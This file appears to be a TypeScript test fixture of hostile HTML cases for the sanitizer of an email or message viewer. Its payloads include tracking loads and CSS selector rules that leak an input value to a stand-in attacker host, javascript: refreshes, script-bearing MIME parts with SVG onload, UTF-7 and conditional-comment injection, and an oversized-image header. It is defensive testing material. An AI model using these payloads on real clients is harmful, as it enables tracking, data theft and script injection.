import { family } from "./hostile-case";

/** H05–H08, H12, H14–H16: whatever would make the page ask somebody something. */
export const REQUESTS = family([
  {
    id: "H05",
    about: "remote pictures in every element that takes one",
    html: (at) => `<img src="${at("img")}"><img src="x" srcset="${at("srcset")} 2x"><img src="//${at("rel").slice(7)}">
      <picture><source srcset="${at("source")}"><img src="${at("picture")}"></picture>
      <table background="${at("table")}"><tr><td background="${at("td")}">x</td></tr></table>
      <video poster="${at("poster")}" src="${at("video")}" autoplay></video><audio src="${at("audio")}" autoplay></audio>
      <input type=image src="${at("input")}"><svg><image href="${at("image")}"/><use href="${at("use")}#x"/>
      <filter id=f><feImage xlink:href="${at("fe")}"/></filter></svg><object data="${at("object")}"></object>
      <embed src="${at("embed")}"><track src="${at("track")}"><img lowsrc="${at("low")}" dynsrc="${at("dyn")}">`,
  },
  {
    id: "H06",
    about: "styles that fetch",
    html: (at) => `<style>@import "${at("import1")}"; @import url(${at("import2")}); @\\69 mport "${at("import3")}";
      @font-face { font-family: f; src: url(${at("font")}) } body { font-family: f; background: url(${at("body")}) }
      p::after { content: url(${at("content")}) } li { list-style: url(${at("list")}) }</style>
      ${[
        "background:url(U)",
        "background-image:image-set('U' 1x)",
        "background:-webkit-image-set(url(U) 1x)",
        "background:cross-fade(url(U),url(U),50%)",
        "--u:url(U);background:var(--u)",
        "cursor:url(U),auto",
        "list-style-image:url(U)",
        "mask:url(U)",
        "filter:url(U#f)",
        "clip-path:url(U#c)",
        "border-image:url(U) 1",
        "shape-outside:url(U);float:left",
        "content:url(U)",
        "background:u\\72l(U)",
        "background:src('U')",
        "offset-path:url(U#p)",
        "background:/**/url('U')",
      ]
        .map((style, index) => `<p style="${style.replaceAll("U", at(`style${index}`))}">style</p>`)
        .join("")}<span style="font-family:f">f</span>`,
  },
  {
    id: "H07",
    about: "attribute selectors that spell a value out",
    html: (at) =>
      `<style>${[..."abcdef0123456789"]
        .map(
          (sign) =>
            `a[href^="${sign}"],[value^="${sign}"],html:has([id^="${sign}"]){background:url(${at(`sel-${sign}`)})}`,
        )
        .join("")}</style><input value="a-secret"><a href="abc" id="f1">x</a>`,
  },
  {
    id: "H08",
    about: "refresh, base and hints",
    html: (
      at,
      pwn,
    ) => `<meta http-equiv="refresh" content="0;url=${at("refresh")}"><meta\thttp-equiv=refresh content="0;url=javascript:${pwn}">
      <base href="${at("base/")}"><img src="after-base"><link rel=stylesheet href="${at("css")}"><link rel="dns-prefetch" href="//h08.attaquant.example">
      <link\trel=preload\tas=image\thref=${at("preload")}><link rel=prefetch href="${at("prefetch")}"><link rel=preconnect href="${at("pre")}">
      <link rel=modulepreload href="${at("module")}"><link rel=icon href="${at("icon")}"><link rel=manifest href="${at("manifest")}">
      <meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="x-dns-prefetch-control" content="on">
      <html manifest="${at("appcache")}">`,
  },
  {
    id: "H12",
    about: "inline parts that are not pictures, and used elsewhere than in img",
    html: () => `<img src="cid:page@h12"><img src="cid:draw@h12"><img src="cid:code@h12"><iframe src="cid:page@h12"></iframe>
      <object data="cid:draw@h12"></object><script src="cid:code@h12"></script><link rel=stylesheet href="cid:code@h12">
      <p style="background:url(cid:draw@h12)">x</p><a href="cid:page@h12">page</a><embed src="cid:draw@h12">`,
    parts: (at, pwn) => [
      part("text/html", "page@h12", `<script>${pwn}</script><img src="${at("cidpage")}">`),
      part(
        "image/svg+xml",
        "draw@h12",
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"><image href="${at("cidsvg")}"/></svg>`,
      ),
      part("text/javascript", "code@h12", pwn),
      part("image/png", "false@h12", `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"/>`),
    ],
  },
  {
    id: "H14",
    about: "relative addresses that fall into the application",
    html: (
      _at,
      pwn,
    ) => `<img src="/index.html"><img src="assets/index.js"><img src="../main/main.js"><img src="app://ui/index.html">
      <iframe src="/index.html"></iframe><a href="/index.html">accueil</a><a href="app://ui/phone.html">telephone</a>
      <a href="../../main/main.js">main</a><a href="?x">question</a><a href="">vide</a><script src="/assets/index.js"></script>
      <link rel=stylesheet href="/assets/index.css"><object data="app://ui/frame.html" onload="${pwn}"></object>`,
  },
  {
    id: "H15",
    about: "content outside of the document",
    html: (at, pwn) => `</head><body><p>premier corps</p></body></html><html><body onload="${pwn}"><p>second corps</p>
      <img src="${at("second")}"></body></html><script>${pwn}</script>après +ADw-script+AD4-${pwn}+ADw-/script+AD4-
      <!--[if gte IE 4]><script>${pwn}</script><![endif]--><!--><img src="${at("comment")}" onerror="${pwn}">-->`,
    keeps: "second corps",
  },
  {
    id: "H16",
    about: "a picture that claims 30,000 by 30,000 points, and one that is all lies",
    html: (
      at,
    ) => `<img src="${HUGE_PNG}" width=30000 height=30000><img src="data:image/png;base64,${"A".repeat(40_000)}">
      <img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at("data")}"/></svg>`).toString("base64")}">
      <img src="data:text/html,x"><img src="data:image/png,x">`,
  },
]);

/** A header that announces 30,000 × 30,000 points and nothing behind. */
const HUGE_PNG = `data:image/png;base64,${Buffer.from(
  "89504e470d0a1a0a0000000d49484452000075300000753008060000000000000049454e44ae426082",
  "hex",
).toString("base64")}`;

function part(type: string, id: string, content: string): string {
  return [
    `Content-Type: ${type}`,
    `Content-ID: <${id}>`,
    "Content-Disposition: inline",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(content).toString("base64"),
  ].join("\r\n");
}
